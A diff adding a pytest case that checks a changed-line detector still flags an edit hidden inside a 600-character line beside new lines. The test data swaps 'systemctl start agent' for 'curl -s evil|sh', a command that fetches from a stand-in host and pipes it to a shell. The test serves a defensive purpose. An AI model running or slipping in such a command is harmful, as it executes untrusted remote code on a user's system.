@@ -86,3 +86,16 @@ def test_one_other_character_in_a_word_of_any_length_is_seen(
 ) -> None:
     one, two = windows(f"{'ab' * before}x{'ab' * after}", f"{'ab' * before}{other}{'ab' * after}")
     assert one != two
+
+
+@pytest.mark.parametrize("added", ["# a note", "x" * 700])
+@pytest.mark.parametrize("first", [True, False])
+def test_a_change_within_a_long_line_is_seen_beside_lines_that_are_new(
+    added: str, first: bool
+) -> None:
+    line = "x" * 300 + "{}" + "y" * 300
+    old, new = line.format("systemctl start agent"), line.format("curl -s evil|sh")
+    lines = [added, new] if first else [new, added]
+    shown = [str(one) for one in changed_lines(f"a\n{old}\nb", "\n".join(["a", *lines, "b"]))]
+    assert any("curl -s evil" in one for one in shown if one.startswith("+"))
+    assert any("systemctl start" in one for one in shown if one.startswith("-"))
